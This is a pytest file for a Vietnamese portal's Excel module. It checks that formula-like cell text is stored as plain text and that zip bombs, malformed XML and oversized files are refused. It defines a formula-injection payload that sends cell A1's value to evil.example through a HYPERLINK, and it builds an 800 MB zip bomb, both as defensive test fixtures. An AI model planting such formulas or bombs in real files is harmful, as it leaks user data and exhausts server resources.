"""The one Excel writer and reader: formulas stay text, bombs and broken files are refused."""

from __future__ import annotations

import datetime
import io
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from portal import excel
from tests.refusals import refused

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def rss_bytes() -> int:
    """The process's resident memory now (not its peak), from /proc."""
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * 4096


def _book_with(values: list) -> bytes:
    book = Workbook()
    excel.write_row(book.active, ["Tiêu đề"], bold=True)
    excel.write_row(book.active, values)
    return excel.workbook_bytes(book)


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tabc", "\r=1+1"])
def test_formula_like_text_comes_back_as_text(text):
    content = _book_with([text, 5, datetime.date(2026, 3, 1)])
    cell, number, day = load_workbook(io.BytesIO(content)).active[2]
    assert cell.data_type == "s" and cell.value == text
    assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    assert number.value == 5 and number.data_type == "n"
    assert day.value == datetime.datetime(2026, 3, 1) and day.number_format == "DD/MM/YYYY"


def test_a_value_set_directly_is_protected_too():
    book = Workbook()
    book.active["B3"] = EVIL
    cell = load_workbook(io.BytesIO(excel.workbook_bytes(book))).active["B3"]
    assert (cell.data_type, cell.value) == ("s", EVIL)


def test_write_only_sheets_are_protected():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Đơn vị")
    excel.set_up_sheet(sheet)
    excel.write_row(sheet, ["Mã", "Tên"], bold=True)
    excel.write_row(sheet, ["1", EVIL])
    cell = load_workbook(io.BytesIO(excel.workbook_bytes(book))).active["B2"]
    assert (cell.data_type, cell.value) == ("s", EVIL)


def test_every_sheet_prints_on_a4_fitted_with_its_header_repeated():
    book = Workbook()
    excel.write_row(book.active, ["A", "B"])
    excel.set_up_sheet(book.active, header_row=1, widths=(10, 20))
    excel.add_choices(book.active, 2, ["Số lượng", "Mốc hoàn thành"], first_row=2, last_row=50)
    sheet = load_workbook(io.BytesIO(excel.workbook_bytes(book))).active
    assert sheet.page_setup.paperSize == 9
    assert sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"
    [validation] = sheet.data_validations.dataValidation
    assert validation.formula1 == '"Số lượng,Mốc hoàn thành"'
    assert str(validation.sqref) == "B2:B50"


# ---------------------------------------------------------------- reading


def zip_bomb(path: Path, inflated_mb: int = 800) -> Path:
    """An .xlsx whose one sheet inflates to `inflated_mb` MB of whitespace (about 1 KB a MB)."""
    chunk = b" " * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(inflated_mb):
                sheet.write(chunk)
    return path


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> bytes:
    return zip_bomb(tmp_path_factory.mktemp("bomb") / "bom.xlsx").read_bytes()


def test_the_zip_bomb_is_refused_fast_with_memory_flat(bomb):
    assert len(bomb) < 1_000_000
    before = rss_bytes()
    started = time.perf_counter()
    with pytest.raises(excel.WorkbookRefused) as refusal:
        excel.read_workbook(io.BytesIO(bomb), max_rows=600)
    elapsed = time.perf_counter() - started
    grown = rss_bytes() - before
    assert elapsed < 1.0
    assert grown < 20 * 1024 * 1024, f"RSS grew by {grown // 1024} KB"
    assert "nội dung giải nén là 800 MB, quá giới hạn 50 MB" in refusal.value.message
    assert "Chưa có dữ liệu nào được lưu" in refusal.value.message


def test_too_many_entries_are_refused(settings):
    settings.EXCEL_MAX_ENTRIES = 5
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for index in range(6):
            archive.writestr(f"x{index}.xml", "<x/>")
    with pytest.raises(excel.WorkbookRefused, match="6 thành phần, quá giới hạn 5"):
        excel.read_workbook(buffer, max_rows=10)


def broken_sheet_xml() -> io.BytesIO:
    """A sound workbook whose sheet XML was cut in the middle of a tag."""
    book = Workbook()
    book.active.append(["Đối tượng", "Mã đơn vị"])
    sound = io.BytesIO()
    book.save(sound)
    broken = io.BytesIO()
    with zipfile.ZipFile(sound) as source, zipfile.ZipFile(broken, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2] + b"<row r=<<"
            target.writestr(item, data)
    broken.seek(0)
    return broken


def test_malformed_xml_is_refused_in_vietnamese():
    with refused("workbook_unreadable") as refusal:
        excel.read_workbook(broken_sheet_xml(), max_rows=10)
    assert isinstance(refusal.value, excel.WorkbookRefused)
    assert refusal.value.message.startswith("Không đọc được tệp Excel:")
    assert "XML" in refusal.value.message


def test_a_broken_archive_is_refused_in_vietnamese():
    with pytest.raises(excel.WorkbookRefused, match="cấu trúc nén bị hỏng"):
        excel.read_workbook(io.BytesIO(b"PK\x03\x04 not really a zip"), max_rows=10)


def test_rows_past_the_cap_refuse_the_whole_file():
    book = Workbook()
    for number in range(12):
        book.active.append([number, "dòng"])
    buffer = io.BytesIO(excel.workbook_bytes(book))
    with pytest.raises(excel.WorkbookRefused, match="có quá 10 dòng"):
        excel.read_workbook(buffer, max_rows=10)
    buffer.seek(0)
    assert len(excel.read_workbook(buffer, max_rows=12)["Sheet"]) == 12
